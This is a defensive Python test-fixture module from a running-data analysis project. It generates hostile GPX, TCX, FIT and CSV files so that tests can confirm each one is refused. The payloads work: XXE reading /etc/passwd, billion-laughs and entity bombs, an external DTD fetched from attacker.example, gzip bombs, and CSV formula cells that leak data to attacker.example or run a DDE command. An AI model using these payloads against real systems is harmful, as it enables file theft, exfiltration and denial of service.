"""Hostile files, generated (issue 9): each attack reproduced against the libraries we use, as bytes.

Used by tests/test_attacks.py (each must be refused with InputError before the slow library sees it)
and by benchmarks/attacks.py (time and peak memory per attack, and what the unguarded library does).
Nothing here is committed as a binary: every file is built from these few lines, so the attacks stay
readable and their sizes can be changed.
"""

from __future__ import annotations

import gzip
import struct
from collections.abc import Callable
from dataclasses import dataclass

from analysis.io.fit_crc import crc16

GPX_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<gpx version="1.1" creator="attack" ' \
           'xmlns="http://www.topografix.com/GPX/1/1">\n'


def _track(points: int = 120) -> str:
    """A short, valid recorded track (1 Hz, ~3 m/s northwards), so the file is a run but for the attack."""
    rows = "".join(
        f'<trkpt lat="{48.0 + i * 2.7e-5:.6f}" lon="11.000000"><ele>500</ele>'
        f"<time>2024-05-04T07:{i // 60:02d}:{i % 60:02d}Z</time></trkpt>\n"
        for i in range(points)
    )
    return f"<trk><type>running</type><trkseg>\n{rows}</trkseg></trk>\n"


def gpx_stray_xmlns(size_bytes: int = 480_000) -> bytes:
    """A valid GPX ending in an extension that is the word "xmlns" over and over, with no "=" after it.

    gpxpy's pre-scan regex (`\\sxmlns:?[^=]*="[^"]+"`) scans from every one to the end of the file
    and back: quadratic in their number (issue 9: a 480 KB file took 30 s).
    """
    head = GPX_HEAD + _track() + "<extensions><note>"
    tail = "</note></extensions>\n</gpx>\n"
    words = max(0, (size_bytes - len(head) - len(tail)) // len(" xmlns"))
    return (head + " xmlns" * words + tail).encode()


def gpx_distinct_namespaces(count: int = 8_000) -> bytes:
    """A valid GPX declaring `count` different namespaces; gpxpy registers each in a growing global map."""
    ext = "".join(f'<n{i}:x xmlns:n{i}="urn:attack:{i}">1</n{i}:x>' for i in range(count))
    return (GPX_HEAD + f"<metadata><extensions>{ext}</extensions></metadata>\n" + _track() + "</gpx>\n").encode()


def gpx_far_xmlns(pad_bytes: int = 20_000_000, marks: int = 90) -> bytes:
    """Few stray "xmlns" (under the count cap) before megabytes without an "=", and broken XML at the end.

    The broken end makes lxml fail, so the file would go to gpxpy, whose regex would scan the padding
    once per mark: 90 × 20 MB. This is why the scan itself is measured (`gpxpy_prescan_chars`).
    """
    body = "<metadata><desc>" + " xmlns" * marks + "a" * pad_bytes + "</desc></metadata>\n"
    return (GPX_HEAD + body + _track() + "</gpx").encode()  # no closing ">"


def gpx_entity_expansion(entity_bytes: int = 2_000_000, references: int = 75) -> bytes:
    """A padded entity referenced `references` times: 2 MB of file, 150 million characters once expanded.

    One big entity used a few dozen times stays under expat's amplification limit (it measures the
    ratio of output to input, 100 by default, and the input is large), so the standard library expands
    it all (issue 9: 311 MB of memory).
    """
    dtd = f'<!DOCTYPE gpx [\n<!ENTITY pad "{"x" * entity_bytes}">\n]>\n'
    name = "&pad;" * references
    return (
        # The comment puts "<gpx" in the first bytes, where content sniffing looks, ahead of the big DTD.
        '<?xml version="1.0" encoding="UTF-8"?>\n<!-- <gpx> -->\n' + dtd
        + '<gpx version="1.1" creator="attack" xmlns="http://www.topografix.com/GPX/1/1">\n'
        + f"<metadata><name>{name}</name></metadata>\n" + _track() + "</gpx>\n"
    ).encode()


def gpx_external_entity(target: str = "file:///etc/passwd") -> bytes:
    """An external entity: an old lxml read the local file `target` into the parsed track's name."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE gpx [<!ENTITY secret SYSTEM "{target}">]>\n'
        '<gpx version="1.1" creator="attack" xmlns="http://www.topografix.com/GPX/1/1">\n'
        "<metadata><name>&secret;</name></metadata>\n" + _track() + "</gpx>\n"
    ).encode()


TCX_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<TrainingCenterDatabase '
    'xmlns="http://www.garmin.com/xmlschemas/TrainingCenterDatabase/v2" '
    'xmlns:ns3="http://www.garmin.com/xmlschemas/ActivityExtension/v2">\n'
)


def _tcx_trackpoint(i: int, inner: str = "") -> str:
    return (
        f"<Trackpoint><Time>2024-05-04T07:{i // 60 % 60:02d}:{i % 60:02d}Z</Time><Position>"
        f"<LatitudeDegrees>{48.0 + i * 2.7e-5:.6f}</LatitudeDegrees><LongitudeDegrees>11.0</LongitudeDegrees>"
        f"</Position><DistanceMeters>{3.0 * i:.1f}</DistanceMeters><HeartRateBpm><Value>150</Value></HeartRateBpm>"
        f"<Extensions><ns3:TPX><ns3:RunCadence>86</ns3:RunCadence>{inner}</ns3:TPX></Extensions></Trackpoint>\n"
    )


def _tcx(points: int = 120, extra: str = "", first_inner: str = "", head: str = TCX_HEAD) -> bytes:
    """A short, valid TCX run (1 Hz, ~3 m/s), with `extra` inside its activity and `first_inner` in the
    first trackpoint's TPX, so the file is a run but for the attack."""
    rows = _tcx_trackpoint(0, first_inner) + "".join(_tcx_trackpoint(i) for i in range(1, points))
    return (
        head + '<Activities><Activity Sport="Running"><Id>2024-05-04T07:00:00Z</Id>'
        f'<Lap StartTime="2024-05-04T07:00:00Z"><Track>\n{rows}</Track></Lap>{extra}'
        "</Activity></Activities></TrainingCenterDatabase>\n"
    ).encode()


def tcx_billion_laughs(levels: int = 9) -> bytes:
    """The classic: ten entities of ten references each, nested `levels` deep (10^9 "lol"s, ~3 GB once expanded)."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{k} "{f"&lol{k - 1};" * 10}">' for k in range(1, levels + 1)
    ]
    dtd = "<!DOCTYPE TrainingCenterDatabase [\n" + "\n".join(entities) + "\n]>\n"
    head = TCX_HEAD.replace("\n<TrainingCenterDatabase", "\n" + dtd + "<TrainingCenterDatabase", 1)
    return _tcx(extra=f"<Notes>&lol{levels};</Notes>", head=head)


def tcx_external_entity(target: str = "file:///etc/passwd") -> bytes:
    """An external entity naming a local file, read into the activity's notes by a careless parser."""
    head = TCX_HEAD.replace(
        "\n<TrainingCenterDatabase",
        f'\n<!DOCTYPE TrainingCenterDatabase [<!ENTITY secret SYSTEM "{target}">]>\n<TrainingCenterDatabase', 1,
    )
    return _tcx(extra="<Notes>&secret;</Notes>", head=head)


def tcx_external_dtd(url: str = "http://attacker.example/tcx.dtd") -> bytes:
    """A DOCTYPE pointing at a DTD on the network: a parser that loads it calls the attacker (SSRF)."""
    head = TCX_HEAD.replace(
        "\n<TrainingCenterDatabase", f'\n<!DOCTYPE TrainingCenterDatabase SYSTEM "{url}">\n<TrainingCenterDatabase', 1
    )
    return _tcx(head=head)


def tcx_deep_nesting(depth: int = 100_000) -> bytes:
    """`depth` nested elements inside a trackpoint's extension (700 KB): recursion, or one element object per level."""
    return _tcx(first_inner="<x>" * depth + "</x>" * depth)


def tcx_attribute_flood(attributes: int = 200_000) -> bytes:
    """One element with `attributes` attributes (2.3 MB): expat slows down superlinearly (800,000 took 4.6 s)."""
    attrs = " ".join(f'a{i}="1"' for i in range(attributes))
    return _tcx(first_inner=f"<ns3:Note {attrs}/>")


def tcx_distinct_namespaces(count: int = 8_000) -> bytes:
    """A valid TCX declaring `count` different namespaces, as the GPX attack does."""
    return _tcx(first_inner="".join(f'<n{i}:x xmlns:n{i}="urn:attack:{i}">1</n{i}:x>' for i in range(count)))


def tcx_tag_flood(tags: int = 6_500_000) -> bytes:
    """26 MB of empty elements (`<a/>` × `tags`) in one trackpoint: 6.5 million tree nodes, ~1 GB in lxml."""
    return _tcx(first_inner="<a/>" * tags)


def tcx_repeated_trackpoints(megabytes: float = 200.0) -> bytes:
    """One real trackpoint over and over: a plain run file of `megabytes` (a 200 MB "activity" by default).

    Tests build it small and lower the caps (analysis.io.source.MAX_ACTIVITY_BYTES, analysis.io.tcx.MAX_TCX_TAGS)
    to match, so what is refused and where is the same as for the full-size file.
    """
    point = _tcx_trackpoint(7)
    return _tcx(points=1).replace(
        b"</Track>", point.encode() * max(1, int(megabytes * 1e6) // len(point)) + b"</Track>", 1
    )


def tcx_gzip_bomb(unpacked_mb: int = 200) -> bytes:
    """A `.tcx.gz` of 200 KB that unpacks to `unpacked_mb` MB: a TCX head, then whitespace (~1,000 times its size).

    Concatenated gzip members are one file to gzip readers, so one compressed megabyte repeated is enough:
    nothing of that size is ever built here.
    """
    header = TCX_HEAD.encode() + b'<Activities><Activity Sport="Running"><Lap><Track>\n'
    return gzip.compress(header) + gzip.compress(b" " * 1_000_000, compresslevel=9) * unpacked_mb


def fit_tiny_messages(size_bytes: int = 1_000_000, payload_bytes: int = 0, trailer: bytes = b"") -> bytes:
    """A FIT file with valid header and file CRCs, filled with record messages of `payload_bytes` each.

    `payload_bytes=0`: one-byte messages (a definition with no fields), which kept fitparse busy 14 s
    and 200 MB for 1 MB (issue 9: a CRC proves nothing, an attacker computes it). 1: heart rate only,
    two bytes per message. `trailer` goes after the messages, inside the CRC (e.g. a data message of an
    undefined local type, which the fast decoder leaves to the reference decoder).
    """
    body = bytearray()
    # file_id (global 0): type (field 0, enum) = 4, activity
    body += bytes([0x40, 0, 0]) + struct.pack("<H", 0) + bytes([1, 0, 1, 0x00]) + bytes([0x00, 4])
    fields = bytes([3, 1, 0x02]) if payload_bytes == 1 else b""  # heart_rate, 1 byte, uint8
    body += bytes([0x41, 0, 0]) + struct.pack("<H", 20) + bytes([len(fields) // 3]) + fields
    message = bytes([0x01]) + bytes([140]) * payload_bytes
    count = max(1, (size_bytes - 14 - 2 - len(body) - len(trailer)) // len(message))
    body += message * count + trailer
    header = bytearray(struct.pack("<BBHI4s", 14, 0x20, 2195, len(body), b".FIT"))
    header += struct.pack("<H", crc16(bytes(header)))
    data = bytes(header) + bytes(body)
    return data + struct.pack("<H", crc16(data))


def csv_duplicate_headers(columns: int = 40_000) -> bytes:
    """A CSV whose header is one name 40,000 times (pandas took 14 s to de-duplicate the names)."""
    return (",".join(["date"] * columns) + "\n" + ",".join(["2026-01-01"] * columns) + "\n").encode()


# Cells a spreadsheet runs as formulas when a CSV export writes them back out unescaped (OWASP "CSV
# injection"): a link that leaks data, a command (old Excel DDE), arithmetic and an @-function.
FORMULA_CELLS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)


def csv_formula_cells() -> bytes:
    """A valid strength log (our layout) whose exercise and notes cells start with = + - @."""
    rows = ["date,athlete,session_type,exercise,sets,reps,back_soreness,notes"]
    for i, cell in enumerate(FORMULA_CELLS):
        quoted = '"' + cell.replace('"', '""') + '"'
        rows.append(f"2026-01-0{i + 1},Mallory,core,{quoted},3,10,{i},{quoted}")
    return ("\n".join(rows) + "\n").encode()


@dataclass(frozen=True)
class Attack:
    """One hostile file: how to build it, which reader takes it, and the refusal expected."""

    name: str
    file_name: str
    build: Callable[[], bytes]
    kind: str  # "activity" (read_activity) or "strength" (read_strength_log)
    refusal: str  # a fragment of the InputError message
    what: str  # the attack, in a sentence
    before_parse: bool = True  # refused before any XML parser or FIT decoder runs (else by the parser's own limits)


ATTACKS: tuple[Attack, ...] = (
    Attack("gpx-stray-xmlns", "stray.gpx", gpx_stray_xmlns, "activity", "malformed 'xmlns' marks",
           "480 KB valid GPX ending in 78,000 stray 'xmlns' (gpxpy's quadratic pre-scan)"),
    Attack("gpx-distinct-namespaces", "namespaces.gpx", gpx_distinct_namespaces, "activity",
           "different XML namespaces", "8,000 distinct namespace declarations (gpxpy's global prefix map)"),
    Attack("gpx-far-xmlns", "far.gpx", gpx_far_xmlns, "activity", "far from any value",
           "90 stray 'xmlns' before 20 MB without '=', broken end (forces the gpxpy fallback)"),
    Attack("gpx-entity-expansion", "laughs.gpx", gpx_entity_expansion, "activity", "DTD or XML entities",
           "2 MB entity referenced 75 times: 150 million characters once expanded"),
    Attack("gpx-external-entity", "xxe.gpx", gpx_external_entity, "activity", "DTD or XML entities",
           "external entity naming /etc/passwd"),
    Attack("fit-one-byte-messages", "ones.fit", fit_tiny_messages, "activity", "fewer than 2 bytes each on average",
           "1 MB FIT of one-byte messages with valid CRCs"),
    Attack("fit-one-byte-messages-fallback", "ones-fallback.fit",
           lambda: fit_tiny_messages(trailer=bytes([0x05])), "activity", "fewer than 2 bytes each on average",
           "the same, ending in a message the fast decoder leaves to fitparse"),
    Attack("fit-two-byte-messages-fallback", "twos-fallback.fit",
           lambda: fit_tiny_messages(payload_bytes=1, trailer=bytes([0x05])), "activity",
           "reference decoder", "1 MB of two-byte heart-rate messages (500,000), ending in a message for fitparse"),
    Attack("tcx-billion-laughs", "laughs.tcx", tcx_billion_laughs, "activity", "DTD or XML entities",
           "ten nested entities of ten references each: 10^9 'lol's once expanded"),
    Attack("tcx-external-entity", "xxe.tcx", tcx_external_entity, "activity", "DTD or XML entities",
           "external entity naming /etc/passwd"),
    Attack("tcx-external-dtd", "dtd.tcx", tcx_external_dtd, "activity", "DTD or XML entities",
           "DOCTYPE loading a DTD from the network"),
    Attack("tcx-distinct-namespaces", "namespaces.tcx", tcx_distinct_namespaces, "activity",
           "different XML namespaces", "8,000 distinct namespace declarations"),
    Attack("tcx-attribute-flood", "attributes.tcx", tcx_attribute_flood, "activity", "more than 100 attributes",
           "one element with 200,000 attributes (2.3 MB)"),
    Attack("tcx-tag-flood", "tags.tcx", tcx_tag_flood, "activity", "tags",
           "26 MB of empty elements: 6.5 million tree nodes"),
    Attack("tcx-deep-nesting", "deep.tcx", tcx_deep_nesting, "activity", "more than 256 deep",
           "100,000 nested elements in a trackpoint (700 KB)", before_parse=False),
    Attack("csv-duplicate-headers", "dupes.csv", csv_duplicate_headers, "strength", "columns in its header",
           "CSV header of 40,000 duplicate names"),
)
